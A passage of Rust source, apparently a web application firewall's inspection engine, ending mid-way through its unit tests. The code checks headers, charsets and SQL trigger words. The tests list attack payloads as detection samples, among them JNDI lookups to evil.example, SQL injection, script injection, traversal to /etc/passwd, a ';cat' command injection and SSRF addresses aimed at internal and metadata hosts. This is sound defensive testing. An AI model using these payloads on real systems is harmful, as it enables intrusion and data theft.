            return on.finding("protocol-conflicting-content-type", p, Part::Header, "content-type", ct);
        }
        if let Some(ct) = headers.content_type {
            let lower = ct.to_ascii_lowercase();
            if !self.content_type.is_match(&lower) {
                return on.finding("protocol-bad-content-type", p, Part::Header, "content-type", ct);
            }
            let media_types =
                lower.matches('/').count() - lower.matches("boundary=").count().min(lower.matches('/').count());
            if media_types > 1 || (lower.contains("boundary") && !lower.starts_with("multipart/")) {
                return on.finding("protocol-content-type-smuggling", p, Part::Header, "content-type", ct);
            }
            if lower.matches("charset").count() > 1 {
                return on.finding("protocol-duplicate-charset", p, Part::Header, "content-type", ct);
            }
            if repeated_parameter(&lower) {
                return on.finding("protocol-duplicate-parameter", p, Part::Header, "content-type", ct);
            }
            if let Some(cs) = charset(&lower)
                && !allowed_charset(cs)
            {
                return on.finding("protocol-bad-charset", p, Part::Header, "content-type", ct);
            }
        }
        // What the body says of its own encoding (an XML declaration, a
        // byte order mark): an XML parser or a text reader honours it.
        if !req.body.is_empty() {
            let mime = headers.content_type.map_or("", |ct| ct.split(';').next().unwrap_or(""));
            if let Some(cs) = body_charset(mime, req.body)
                && !allowed_charset(&cs)
            {
                return on.finding("protocol-bad-charset", p, Part::Body, "encoding", &cs);
            }
        }
        // The byte search first: most `Accept` values name no charset.
        if let Some(accept) = headers.accept
            && contains_ci_bytes(accept.as_bytes(), b"charset")
            && let Some(accept) = text(Some(accept))
        {
            let lower = accept.to_ascii_lowercase();
            for range in lower.split(',') {
                if let Some(cs) = charset(range)
                    && !allowed_charset(cs)
                {
                    return on.finding("protocol-bad-charset", p, Part::Header, "accept", accept);
                }
            }
        }
        if headers
            .accept_encoding
            .is_some_and(|v| v.len() > 100 && v.to_str().is_ok())
        {
            return on.finding("protocol-long-accept-encoding", p, Part::Header, "accept-encoding", "");
        }
        if headers.legacy_cookie {
            return on.finding("protocol-legacy-cookie", p, Part::Cookie, "$Version", "");
        }
        None
    }
}

/// Whether a (lower-cased, well-formed) media type names a parameter
/// twice, quoted or not: parsers disagree on which one counts (the WAF's
/// multipart reader took the first `boundary=`, Flask and `cgi` the last),
/// so the app would read parts the WAF never saw.
fn repeated_parameter(ct: &str) -> bool {
    let mut seen: Vec<&str> = Vec::new();
    let mut rest = ct.split_once(';').map_or("", |(_, r)| r);
    while let Some((name, after)) = rest.split_once('=') {
        let name = name.trim_matches(|c: char| c == ';' || c.is_whitespace());
        if seen.contains(&name) {
            return true;
        }
        seen.push(name);
        let after = after.trim_start();
        rest = match after.strip_prefix('"') {
            Some(quoted) => quoted.split_once('"').map_or("", |(_, r)| r),
            None => after.split_once(';').map_or("", |(_, r)| r),
        };
    }
    false
}

/// What the protocol checks read of the headers, found in one pass over
/// the map: a lookup per header would hash and probe it once for each.
/// Each field is the first such header's value. Only `Content-Type`, which
/// every check of a body reads, is taken as text at once; the others are
/// checked for text only when a check needs them (a browser's `Accept`
/// on every request is otherwise validated byte by byte for nothing), with
/// the same outcome: a value that is not text is never looked at.
struct Notable<'r> {
    content_length: Option<&'r HeaderValue>,
    content_type: Option<&'r str>,
    accept: Option<&'r HeaderValue>,
    accept_encoding: Option<&'r HeaderValue>,
    /// A `Cookie` header in the RFC 2109 form (`$Version=...`).
    legacy_cookie: bool,
    /// A second `Content-Type` that is not byte for byte the first
    /// (`boundary=a` then `boundary=A`: boundaries are case-sensitive,
    /// and an app that reads the last would read parts this one did not).
    conflicting_content_type: bool,
}

impl<'r> Notable<'r> {
    fn of(headers: &'r HeaderMap) -> Self {
        use http::header::{ACCEPT, ACCEPT_ENCODING, CONTENT_LENGTH, CONTENT_TYPE, COOKIE};
        let [mut length, mut ctype, mut accept, mut encoding] = [None; 4];
        let (mut legacy_cookie, mut conflicting_content_type) = (false, false);
        for (name, value) in headers {
            let first = if name == CONTENT_LENGTH {
                &mut length
            } else if name == CONTENT_TYPE {
                conflicting_content_type |= ctype.is_some_and(|first: &HeaderValue| first != value);
                &mut ctype
            } else if name == ACCEPT {
                &mut accept
            } else if name == ACCEPT_ENCODING {
                &mut encoding
            } else {
                // Both forms have a `$`, which few cookies do: one byte
                // search settles nearly every cookie.
                legacy_cookie = legacy_cookie
                    || name == COOKIE
                        && memchr::memchr(b'$', value.as_bytes()).is_some()
                        && (value.as_bytes().starts_with(b"$Version")
                            || contains_ci(value.to_str().unwrap_or(""), "; $version"));
                continue;
            };
            first.get_or_insert(value);
        }
        Notable {
            content_length: length,
            content_type: ctype.and_then(|v: &HeaderValue| v.to_str().ok()),
            accept,
            accept_encoding: encoding,
            legacy_cookie,
            conflicting_content_type,
        }
    }
}

/// `value` as text, when it is.
fn text(value: Option<&HeaderValue>) -> Option<&str> {
    value.and_then(|v| v.to_str().ok())
}

/// One Aho-Corasick automaton over rules' trigger words, and for each
/// word the rules it wakes (a bit set over `RULES`, plus the gate bits).
struct Triggers {
    words: aho_corasick::dfa::DFA,
    rules: Vec<u128>,
}

impl Triggers {
    /// The triggers of the rules that apply to a part `wanted` accepts.
    fn new(wanted: impl Fn(Part) -> bool, gates: &[(u32, &[&'static str])]) -> Self {
        const PARTS: [Part; 9] = [
            Part::Path,
            Part::ArgName,
            Part::Arg,
            Part::Cookie,
            Part::Header,
            Part::UserAgent,
            Part::Referer,
            Part::Filename,
            Part::Body,
        ];
        let mut words: Vec<&str> = Vec::new();
        let mut rules: Vec<u128> = Vec::new();
        let applicable = RULES
            .iter()
            .enumerate()
            .filter(|(_, r)| PARTS.iter().any(|p| wanted(*p) && r.parts.has(*p)))
            .map(|(i, r)| (i as u32, r.triggers));
        for (bit, triggers) in applicable.chain(gates.iter().copied()) {
            for t in triggers {
                let at = match words.iter().position(|w| w == t) {
                    Some(at) => at,
                    None => {
                        words.push(t);
                        rules.push(0);
                        words.len() - 1
                    }
                };
                rules[at] |= 1 << bit;
            }
        }
        // A DFA: more memory than an NFA, but this scan of every value is
        // the hot loop of inspection. No prefilter: with hundreds of words
        // it would not skip anything, and without one only match states
        // are special.
        let words = aho_corasick::dfa::Builder::new()
            .match_kind(MatchKind::Standard)
            .prefilter(false)
            .build(&words)
            .expect("trigger words compile");
        Triggers { words, rules }
    }

    /// The rules (and gates) every trigger word found in `value` wakes.
    /// Walks the DFA by hand: a state transition per byte, and at match
    /// states (which hold every word ending there) an OR per word, with
    /// none of the overlapping iterator's per-match bookkeeping.
    fn scan(&self, value: &[u8]) -> u128 {
        let dfa = &self.words;
        let Ok(mut sid) = dfa.start_state(Anchored::No) else {
            return 0;
        };
        let mut woken = 0;
        for &b in value {
            sid = dfa.next_state(Anchored::No, sid, b);
            if dfa.is_special(sid) && dfa.is_match(sid) {
                for i in 0..dfa.match_len(sid) {
                    woken |= self.rules[dfa.match_pattern(sid, i).as_usize()];
                }
            }
        }
        woken
    }
}

/// A regex over bytes with ASCII classes (see the rules' regexes).
fn ascii_regex(pattern: &str) -> BytesRegex {
    RegexBuilder::new(pattern)
        .unicode(false)
        .build()
        .unwrap_or_else(|e| panic!("{pattern}: {e}"))
}

impl Default for Engine {
    fn default() -> Self {
        Engine::new()
    }
}

/// The charset parameter of a media type or media range (lowercase).
pub(crate) fn charset(media: &str) -> Option<&str> {
    let at = media.find("charset")?;
    let rest = media[at + 7..].trim_start().strip_prefix('=')?;
    let rest = rest.trim_start().trim_start_matches('"');
    let end = rest.find(['"', ';', ',', ' ']).unwrap_or(rest.len());
    Some(&rest[..end])
}

/// Charsets a browser or API client sends; others (UTF-7, UTF-16, EBCDIC
/// code pages) are how filters get bypassed. An allow-list: the rules
/// read bytes as ASCII, which these charsets keep readable; any other
/// name, however spelled (`ibm037`, `cp1026`, `x-ebcdic-...`), is refused.
/// `cs` is lowercase.
pub(crate) fn allowed_charset(cs: &str) -> bool {
    matches!(cs, "utf-8" | "utf8" | "us-ascii" | "ascii" | "latin1" | "*" | "")
        || cs.starts_with("iso-8859-")
        || cs.starts_with("windows-125")
        || matches!(
            cs,
            "shift_jis" | "euc-jp" | "euc-kr" | "gb2312" | "gbk" | "gb18030" | "big5" | "koi8-r" | "koi8-u"
        )
}

/// The charset a body declares in its own bytes, lowercase: for a
/// textual `mime` (text, JSON, XML, a form), a UTF-16 or UTF-32 byte order
/// mark or NUL bytes at the start (UTF-16 or UTF-32 text, which JSON and
/// XML parsers detect); for those and a body without a type, the first
/// bytes of an EBCDIC XML document (`<?xm` in EBCDIC) or an XML
/// declaration's `encoding`, which an XML parser honours over the
/// Content-Type.
pub(crate) fn body_charset<'b>(mime: &str, body: &'b [u8]) -> Option<Cow<'b, str>> {
    let mime = mime.trim().to_ascii_lowercase();
    let textual = mime.starts_with("text/")
        || mime.contains("json")
        || mime.contains("xml")
        || mime == "application/x-www-form-urlencoded";
    if !textual && !mime.is_empty() {
        return None;
    }
    let start = &body[..body.len().min(4)];
    if start.starts_with(&[0x4c, 0x6f, 0xa7, 0x94]) {
        return Some(Cow::Borrowed("ebcdic"));
    }
    if textual && (start.starts_with(&[0xfe, 0xff]) || start.starts_with(&[0xff, 0xfe]) || start.contains(&0)) {
        return Some(Cow::Borrowed("utf-16"));
    }
    let body = body.strip_prefix(b"\xef\xbb\xbf").unwrap_or(body);
    let decl = body.strip_prefix(b"<?xml")?;
    let decl = &decl[..decl.len().min(256)];
    let decl = &decl[..memchr::memmem::find(decl, b"?>").unwrap_or(decl.len())];
    let at = memchr::memmem::find(decl, b"encoding")?;
    let rest = decl[at + 8..].trim_ascii_start().strip_prefix(b"=")?.trim_ascii_start();
    // Quoted, as XML has it; unquoted, as a lenient parser reads it.
    let value = match rest.split_first()? {
        (&q, inner) if q == b'"' || q == b'\'' => &inner[..inner.iter().position(|&b| b == q).unwrap_or(inner.len())],
        _ => &rest[..rest.iter().position(u8::is_ascii_whitespace).unwrap_or(rest.len())],
    };
    Some(Cow::Owned(String::from_utf8_lossy(value).to_ascii_lowercase()))
}

/// A timer given a function (`setTimeout(() => f(), ms)`,
/// `setInterval(function () {...})`) runs no string as code; `value` with
/// those timers' names taken out, or `None` when it has none.
fn timers_given_functions(value: &str) -> Option<String> {
    static TIMER: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(
            r"\b(?:settimeout|setinterval)(\s*\(\s*(?:async\s+)?(?:function\b|\([^()]*\)\s*=>|[a-z_$][\w$]*\s*=>))",
        )
        .expect("timer pattern")
    });
    if !value.contains("set") {
        return None;
    }
    match TIMER.replace_all(value, "timer$1") {
        Cow::Owned(rest) => Some(rest),
        Cow::Borrowed(_) => None,
    }
}

/// `canon` without the base64 of its pictures: `data:` URIs of a raster
/// image (PNG, JPEG, GIF, WebP) whose base64 starts with its format's
/// signature, which an editor embeds for a pasted picture and a form sends
/// for an avatar. A picture's bytes are no text, and no browser runs them;
/// `None` when there is none.
fn pictures_blanked(canon: &str) -> Option<String> {
    const SIGNATURES: &[(&str, &str)] = &[
        ("png", "ivborw0kggo"),
        ("jpeg", "/9j/"),
        ("jpg", "/9j/"),
        ("gif", "r0lgod"),
        ("webp", "uklgr"),
    ];
    let mut out = String::new();
    let mut copied = 0;
    let mut from = 0;
    while let Some(at) = canon[from..].find("data:image/") {
        let start = from + at;
        let image = &canon[start + "data:image/".len()..];
        from = start + "data:image/".len();
        let Some((kind, data)) = image.split_once(";base64,") else {
            continue;
        };
        if !SIGNATURES.iter().any(|(k, sig)| *k == kind && data.starts_with(sig)) {
            continue;
        }
        let run = data
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
            .count();
        let end = canon.len() - data.len() + run;
        out.push_str(&canon[copied..start]);
        out.push_str("image");
        copied = end;
        from = end;
    }
    if copied == 0 {
        return None;
    }
    out.push_str(&canon[copied..]);
    Some(out)
}

/// libinjection's verdict, without the fingerprints that only ever fire
/// on prose: a quoted word between words (`sos`, `s&s`: `the "and" key`)
/// and a lone word before a comment (`1c`, `nc`: `x/*`).
fn libinjection_sqli(value: &str) -> bool {
    let result = libinjectionrs::detect_sqli(value.as_bytes());
    if !result.is_injection() {
        return false;
    }
    let Some(fingerprint) = result.fingerprint.map(|f| f.to_string()) else {
        return true;
    };
    // `1&1` is "20% wool and 80% cotton" as often as `1 and 1=1`; the
    // attack form has a comparison, a quote or a comment.
    let operators = value.contains(['=', '<', '>', '\'', '"', '#', '(', '-', '/']);
    !matches!(fingerprint.as_str(), "sos" | "s&s" | "1c" | "nc") && (fingerprint != "1&1" || operators)
}

/// SQL in a path segment (`/item/1 OR 1=1`, `/p/24'union+all+select+1`):
/// routers hand segments to queries as they hand arguments. Each segment
/// with a space, a quote, a `+` or a parenthesis goes through libinjection,
/// `+` read as the space a query string would make of it.
fn path_sqli(path: &str) -> bool {
    path.split('/')
        .filter(|segment| segment.contains([' ', '\'', '"', '(', '+']))
        .any(|segment| libinjection_sqli(&segment.replace('+', " ")))
}

/// Bits of the trigger set that are gates, not rules: for libinjection,
/// and for the scanner user agents.
const SCANNER_GATE: u32 = 125;
const SQL_GATE: u32 = 126;
const XSS_GATE: u32 = 127;

/// Words that make a value worth SQL tokenizing.
const SQL_WORDS: &[&str] = &[
    "select",
    "union",
    " or ",
    " and ",
    " xor ",
    "having",
    "sleep",
    "benchmark",
    "waitfor",
    "insert",
    "update",
    "delete",
    "drop",
    "exec",
    "declare",
    "order by",
    "group by",
    "information_schema",
    "null",
    "case when",
    "extractvalue",
    "updatexml",
    "concat",
    "char(",
    "||",
    "&&",
    " like ",
    " div ",
    "1=1",
    "rlike",
    "regexp",
    "truncate",
    "alter",
    "procedure",
    "into",
    "load_file",
    "--",
    "/*",
];

/// What a value's shape says about it: whether libinjection (the
/// expensive step: several parses per value) is worth running.
struct Marks {
    /// A quote, backtick, `#` or `;`: SQL string and statement breaks.
    sql: bool,
    /// Markup, a backtick, or an attribute break (`="` / `='`).
    xss: bool,
}

impl Marks {
    fn of(shape: Shape) -> Marks {
        let quote = shape.has(Shape::QUOTE | Shape::BACKTICK);
        Marks {
            sql: quote || shape.has(Shape::STATEMENT),
            xss: shape.has(Shape::MARKUP | Shape::BACKTICK) || (shape.has(Shape::EQUALS) && quote),
        }
    }
}

/// ASCII case-insensitive substring search; candidates are found with
/// `memchr` on the needle's first byte (both cases), which skips most of a
/// long header at SIMD speed.
fn contains_ci(hay: &str, needle: &str) -> bool {
    contains_ci_bytes(hay.as_bytes(), needle.as_bytes())
}

/// [`contains_ci`] on bytes.
fn contains_ci_bytes(hay: &[u8], needle: &[u8]) -> bool {
    let Some(&first) = needle.first() else { return true };
    let Some(last_start) = hay.len().checked_sub(needle.len()) else {
        return false;
    };
    memchr::memchr2_iter(
        first.to_ascii_lowercase(),
        first.to_ascii_uppercase(),
        &hay[..=last_start],
    )
    .any(|i| hay[i..i + needle.len()].eq_ignore_ascii_case(needle))
}

/// The longest prefix of `s` of at most `max` bytes, on a char boundary.
pub(crate) fn cut(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

#[cfg(test)]
#[path = "family_tests.rs"]
mod family_tests;

#[cfg(test)]
mod tests {
    use super::*;

    fn subject<'a>(method: &'a Method, target: &'a str, headers: &'a HeaderMap, body: &'a [u8]) -> Subject<'a> {
        let (path, query) = match target.split_once('?') {
            Some((p, q)) => (p, Some(q)),
            None => (target, None),
        };
        Subject {
            method,
            path,
            query,
            headers,
            body,
        }
    }

    /// A POST of `body` as `ct`, inspected.
    pub(super) fn post(ct: &'static str, body: &[u8]) -> Inspection {
        post_with(ct, body, &Switches::default())
    }

    /// [`post`] under `on` (e.g. `markdown_prose`).
    pub(super) fn post_with(ct: &'static str, body: &[u8], on: &Switches) -> Inspection {
        let engine = Engine::new();
        let mut headers = HeaderMap::new();
        headers.insert(http::header::CONTENT_TYPE, http::HeaderValue::from_static(ct));
        engine.inspect_whole(&subject(&Method::POST, "/submit", &headers, body), on)
    }

    #[test]
    fn long_values_are_inspected_to_their_end() {
        let attack = "<script>alert(document.cookie)</script>";
        // Past the first window, across a window edge, at the very end.
        for at in [
            20_000,
            MAX_VALUE - 10,
            MAX_VALUE - WINDOW_OVERLAP - 10,
            2 * (MAX_VALUE - WINDOW_OVERLAP) - 5,
            60_000,
        ] {
            let mut text = "a ".repeat(at / 2);
            text.push_str(attack);
            text.push_str(&" b".repeat(1000));
            let found = post("text/plain", text.as_bytes());
            assert!(found.finding.is_some(), "attack at {at}");
            let json = format!(r#"{{"note":"{text}"}}"#);
            assert!(
                post("application/json", json.as_bytes()).finding.is_some(),
                "JSON, at {at}"
            );
        }
        let clean = "a ".repeat(40_000);
        let r = post("text/plain", clean.as_bytes());
        assert!(r.finding.is_none() && r.complete);
    }

    #[test]
    fn values_past_the_budget_make_an_incomplete_inspection() {
        let mut form: String = (0..MAX_VALUES + 10).map(|i| format!("f{i}=x&")).collect();
        form.push_str("q=%3Cscript%3Ealert(1)%3C/script%3E");
        let r = post("application/x-www-form-urlencoded", form.as_bytes());
        assert!(r.finding.is_none(), "the last value was never looked at");
        assert!(!r.complete);
        let few: String = (0..10).map(|i| format!("f{i}=x&")).collect();
        assert!(post("application/x-www-form-urlencoded", few.as_bytes()).complete);
    }

    pub(super) fn rule_for(target: &str) -> Option<&'static str> {
        let engine = Engine::new();
        let headers = HeaderMap::new();
        engine
            .inspect(&subject(&Method::GET, target, &headers, b""), &Switches::default())
            .map(|f| f.rule)
    }

    /// Headers read structurally (`Cache-Control`, `Sec-*`, `If-None-Match`
    /// ...) are still read as text when they hold a `$`: an app that logs
    /// every header takes a lookup from any of them. Their everyday
    /// values pass.
    #[test]
    fn lookups_in_structured_headers_are_found() {
        let engine = Engine::new();
        let judge = |name: &'static str, value: &'static str| {
            let mut headers = HeaderMap::new();
            headers.insert(name, http::HeaderValue::from_static(value));
            let req = subject(&Method::GET, "/", &headers, b"");
            engine.inspect(&req, &Switches::default()).map(|f| f.rule)
        };
        for name in [
            "cache-control",
            "pragma",
            "dnt",
            "sec-fetch-mode",
            "if-none-match",
            "accept-language",
            "te",
        ] {
            for value in [
                "${jndi:ldap://evil.example/a}",
                "${${lower:j}ndi:rmi://x/a}",
                "no-cache, ${jndi:dns://x/a}",
            ] {
                assert!(judge(name, value).is_some(), "{name}: {value}");
            }
        }
        for (name, value) in [
            ("cache-control", "max-age=0, no-cache"),
            ("sec-ch-ua", "\"Chromium\";v=\"124\", \"Not-A.Brand\";v=\"99\""),
            ("if-none-match", "W/\"5f3a-17c\""),
            ("accept-language", "en-US,en;q=0.9"),
            ("if-none-match", "\"price$9-99\""),
        ] {
            assert_eq!(judge(name, value), None, "{name}: {value}");
        }
    }

    #[test]
    fn every_rule_compiles() {
        let _ = Engine::new();
    }

    #[test]
    fn classic_attacks_are_found() {
        assert!(rule_for("/?id=1%27%20OR%20%271%27=%271").is_some());
        assert!(rule_for("/?q=%3Cscript%3Ealert(1)%3C/script%3E").is_some());
        assert!(rule_for("/?f=..%2f..%2fetc%2fpasswd").is_some());
        assert!(rule_for("/?c=;cat%20/etc/passwd").is_some());
        assert!(rule_for("/?x=${jndi:ldap://a/b}").is_some());
    }

    /// Each family in the spellings an attacker picks to get past a
    /// check written for the plain one.
    #[test]
    fn ssrf_addresses_are_found_in_every_spelling() {
        for url in [
            "http://2130706433/",                 // one decimal number
            "http://0x7f000001/",                 // hex
            "http://0x41414141A9FEA9FE/",         // hex with overflow
            "http://0251.00376.000251.0000376/",  // octal with padding
            "http://127.1/admin",                 // short form
            "http://169.16689662/",               // two parts
            "http://10.0.0.5:8500/v1/agent/self", // private ranges
            "http://192.168.1.1/",
            "http://[::ffff:169.254.169.254]/",                    // IPv6-mapped
            "http://[fd00::1]/",                                   // any IPv6 literal
            "http://localhost.:8080/",                             // trailing dot
            "http://db.internal/",                                 // internal names
            "http://127.0.0.1.nip.io/",                            // wildcard DNS
            "http://evil.com%20%26%40good.com%23%20%40127.0.0.1/", // userinfo confusion
            "http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0/", // enclosed digits
            "http://%5C%5Cg%5C%5Co.com/",                          // backslashes in the host
            "gopher://example.com:70/_x",
        ] {
            let target = format!("/fetch?url={}", url.replace('&', "%26"));
            // A URL to an IP address is also remote file inclusion.
            let rule = rule_for(&target);
            assert!(
                rule.is_some_and(|r| r.starts_with("ssrf") || r.starts_with("rfi")),
                "{url}: {rule:?}"
            );
        }
        assert_eq!(rule_for("/fetch?url=https://example.com/a.png"), None);
    }

    #[test]
    fn lfi_in_other_spellings_is_found() {
        for target in [
            "/?f=file:///etc/./passwd",
            "/?f=/./etc/./shadow",
            "/?f=%5C%5C%3A%3A1%5Cc%24%5Cusers%5Cdefault%5Cntuser.dat",
            "/?f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
            "/?f=....//....//etc/hosts",
        ] {
            assert!(rule_for(target).is_some_and(|r| r.starts_with("lfi")), "{target}");
        }
        assert_eq!(rule_for("/?q=profile+files+explained"), None);
    }

    #[test]
    fn ldap_filter_breakouts_are_found_and_whole_filters_pass() {
        for target in [
            "/?u=*(%7C(objectclass=*))",
            "/?u=x(%26(uid=*)(userPassword=*))",
            "/?u=userPassword:2.5.13.18:=123",
            "/?u=cn:dn:1.2.3:=admin",
        ] {
            assert_eq!(rule_for(target), Some("ldap-filter"), "{target}");
        }
        // What an LDAP search form sends: a whole filter, as in CRS.
        assert_eq!(rule_for("/?f=(%26(objectCategory=computer)(cn=web*))"), None);
        assert_eq!(rule_for("/?t=x%20:=%201"), None);
    }

    #[test]
    fn near_misses_of_sqli_and_java_pass() {
        assert_eq!(rule_for("/?q=%22select+all%22+checkbox+not+working"), None);
        assert_eq!(rule_for("/?q=java.lang.NullPointerException+how+to+fix"), None);
        assert!(rule_for("/?q=%27+union+select+1,2--").is_some());
        assert!(rule_for("/?q=%27+select+name+from+users--").is_some());
        assert_eq!(rule_for("/?q=java.lang.StringBuilder"), Some("java-class"));
        assert_eq!(rule_for("/?q=java.lang.Runtime"), Some("java-class"));
        // Strings joined by an operator only SQL has.
        assert_eq!(rule_for("/?q=A%27+SOUNDS+LIKE+%27B"), Some("sqli-quoted-operator"));
        assert_eq!(rule_for("/?q=x%27+%26+%27y"), Some("sqli-quoted-operator"));
        assert_eq!(rule_for("/?q=the+%27xor%27+gate"), None);
        assert_eq!(rule_for("/?q=Tom%27s+%26+Jerry%27s"), None);
    }

    #[test]
    fn script_calls_templates_and_object_tags_in_other_spellings_are_found() {
        for (target, family) in [
            ("/?q=alert?.(document?.cookie)", "xss"),
            ("/?q=alert.apply(null,%20[1])", "xss"),
            ("/?q=confirm.call(null,1)", "xss"),
            ("/files/alert.apply(null,%20[1])", "xss"),
            ("/files/javascript:setInterval('con'+'firm(1)')", "xss"),
            ("/?q=%26gt;+src+onerror=confirm%26amp;lpar;1%26amp;rpar;%26lt;", "xss"),
            (
                "/?q=%3C%23assign+ex=%22freemarker.template.utility.Execute%22?new()%3E",
                "ssti",
            ),
            ("/?q=!!python/object/new:exec+[import+os]", "generic"),
            ("/?q=--- !ruby/object:Gem::Installer", "generic"),
        ] {
            let rule = rule_for(target);
            assert!(rule.is_some_and(|r| r.contains(family)), "{target}: {rule:?}");
        }
        assert_eq!(rule_for("/?q=call+the+alert+team"), None);
        assert_eq!(rule_for("/docs/javascript/document.cookie"), None);
        assert_eq!(rule_for("/?q=tom+%26amp;+jerry"), None);
    }

    #[test]
    fn node_globals_reached_another_way_are_found() {
        for target in [
            "/?a=Function(%22return%20process%22)()",
            "/?a=global%5B%27process%27%5D.mainModule",
            "/?a=globalThis.process",
            "/?a=process%5B%27mainModule%27%5D.require(%27fs%27)",
        ] {
            assert_eq!(rule_for(target), Some("nodejs-code"), "{target}");
        }
        assert_eq!(rule_for("/?q=global+process+improvement"), None);
        // node-serialize's marker in base64, its first letters JS-escaped.
        let mut headers = HeaderMap::new();
        headers.insert(
            http::header::COOKIE,
            http::HeaderValue::from_static("session=\\u0058\\u0079QkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK"),
        );
        let f = Engine::new().inspect(&subject(&Method::GET, "/", &headers, b""), &Switches::default());
        // (`$$` in the decoded text is also PHP's variable variable.)
        assert!(f.is_some_and(|f| matches!(f.category, Category::Nodejs | Category::Php)));
    }

    #[test]
    fn plain_requests_pass() {
        assert_eq!(rule_for("/products/42?page=2&sort=price"), None);
        assert_eq!(rule_for("/search?q=union+station+parking"), None);
        assert_eq!(rule_for("/search?q=O%27Brien"), None);
    }

    #[test]
    fn a_remembered_header_changed_anywhere_is_inspected_again() {
        // A browser's long cookie, found clean, then the same cookie with
        // an attack put where the slot hash does not look (same length,
        // same sampled words), in other spellings too.
        let engine = Engine::new();
        let clean = format!("session={};theme=dark", "a".repeat(600));
        let headers = |cookie: &str| {
            let mut h = HeaderMap::new();
            h.insert("cookie", cookie.parse().unwrap());
            h
        };
        for _ in 0..2 {
            let f = engine.inspect(&subject(&Method::GET, "/", &headers(&clean), b""), &Switches::default());
            assert!(f.is_none());
        }
        for payload in [
            "' OR 1=1--",
            "%27%20OR%201=1--",
            "<script>x",
            "%3Cscript%3Ex",
            "../../etc/passwd",
        ] {
            let mut changed = clean.clone().into_bytes();
            changed[100..100 + payload.len()].copy_from_slice(payload.as_bytes());
            let changed = String::from_utf8(changed).unwrap();
            assert_eq!(changed.len(), clean.len());
            let f = engine.inspect(
                &subject(&Method::GET, "/", &headers(&changed), b""),
                &Switches::default(),
            );
            assert!(f.is_some(), "{payload}");
            // The clean one is still remembered, the changed one never is.
            let f = engine.inspect(&subject(&Method::GET, "/", &headers(&clean), b""), &Switches::default());
            assert!(f.is_none());
        }
    }

    #[test]
    fn a_repeated_head_vouches_only_for_the_same_method_and_headers() {
        // Each case: a bodiless request found clean (twice: the second
        // compares its method and headers), then the same request with one part
        // changed, which only a request-level check or another value's
        // rule sees: it must be inspected, not waved through as a repeat;
        // the clean one stays clean.
        let engine = Engine::new();
        let on = Switches::default();
        let headers = |pairs: &[(&'static str, &str)]| {
            let mut h = HeaderMap::new();
            for (n, v) in pairs {
                h.append(*n, v.parse().unwrap());
            }
            h
        };
        let declared = headers(&[("content-length", "4")]);
        let utf8 = headers(&[("accept", "text/html;charset=utf-8")]);
        let utf7 = headers(&[("accept", "text/html;charset=utf-7")]);
        let agent = headers(&[("user-agent", "Mozilla/5.0")]);
        let tool = headers(&[("user-agent", "sqlmap/1.7")]);
        /// A request: its method, target and headers.
        type Head<'h> = (&'h Method, &'h str, &'h HeaderMap);
        let cases: [(&str, Head<'_>, Head<'_>); 4] = [
            (
                "protocol-get-with-body",
                (&Method::POST, "/", &declared),
                (&Method::GET, "/", &declared),
            ),
            (
                "protocol-bad-charset",
                (&Method::GET, "/", &utf8),
                (&Method::GET, "/", &utf7),
            ),
            (
                "scanner-user-agent",
                (&Method::GET, "/", &agent),
                (&Method::GET, "/", &tool),
            ),
            (
                "xss",
                (&Method::GET, "/?q=1", &agent),
                (&Method::GET, "/?q=%3Cscript%3Ealert(1)%3C/script%3E", &agent),
            ),
        ];
        for (what, (m, target, h), (m2, target2, h2)) in cases {
            for _ in 0..2 {
                let f = engine.inspect(&subject(m, target, h, b""), &on);
                assert!(f.is_none(), "{what}: the clean head: {f:?}");
            }
            let f = engine.inspect(&subject(m2, target2, h2, b""), &on);
            assert!(f.is_some(), "{what}: the changed head passed as a repeat");
            let f = engine.inspect(&subject(m, target, h, b""), &on);
            assert!(f.is_none(), "{what}: the clean head again: {f:?}");
        }
    }

    #[test]
    fn a_value_found_clean_is_clean_only_under_the_same_rules() {
        let engine = Engine::new();
        let plain = HeaderMap::new();
        let mut json = HeaderMap::new();
        json.insert("content-type", "application/json".parse().unwrap());
        let target = "/api?x=%5Cu0041";
        // JSON requests may carry `\u` escapes; the verdict is kept for
        // JSON requests only.
        for _ in 0..2 {
            let f = engine.inspect(&subject(&Method::POST, target, &json, b"{}"), &Switches::default());
            assert!(f.is_none());
        }
        let f = engine.inspect(&subject(&Method::GET, target, &plain, b""), &Switches::default());
        assert_eq!(f.map(|f| f.rule), Some("protocol-unicode-escape"));

        // Nothing is kept while a rule is switched off.
        let xss = "/?q=%3Cscript%3Ealert(1)%3C/script%3E";
        let off = Switches {
            off_categories: Category::Xss.bit(),
            off_rules: vec!["libinjection-xss".into()],
            args: Vec::new(),
            markdown_prose: false,
            ..Switches::default()
        };
        assert!(engine.inspect(&subject(&Method::GET, xss, &plain, b""), &off).is_none());
        let f = engine.inspect(&subject(&Method::GET, xss, &plain, b""), &Switches::default());
        assert_eq!(f.map(|f| f.category), Some(Category::Xss));

        // A clean path and query are kept; a path that differs by a byte is
        // inspected afresh.
        let page = "/products/42?page=2";
        assert!(
            engine
                .inspect(&subject(&Method::GET, page, &plain, b""), &Switches::default())
                .is_none()
        );
        assert!(
            engine
                .inspect(&subject(&Method::GET, page, &plain, b""), &Switches::default())
                .is_none()
        );
        let f = engine.inspect(
            &subject(&Method::GET, "/products/42?page=2'--", &plain, b""),
            &Switches::default(),
        );
        assert!(f.is_some());
        // Of the same length, changed in the path or the query.
        let page = "/products/42?page=2&sort=price";
        for changed in [
            "/products/42?page=2&s=<script>",
            "/../../../etc/passwd?page=2&so",
            "/products/42?page=2'or'1'='1--",
        ] {
            assert_eq!(changed.len(), page.len());
            assert!(
                engine
                    .inspect(&subject(&Method::GET, page, &plain, b""), &Switches::default())
                    .is_none()
            );
            let f = engine.inspect(&subject(&Method::GET, changed, &plain, b""), &Switches::default());
            assert!(f.is_some(), "{changed}");
        }
    }

    #[test]
    fn multipart_and_xml_fields_are_reached() {
        let engine = Engine::new();
        let mut headers = HeaderMap::new();
        headers.insert("content-type", "multipart/form-data; boundary=XyZ".parse().unwrap());
        let body =
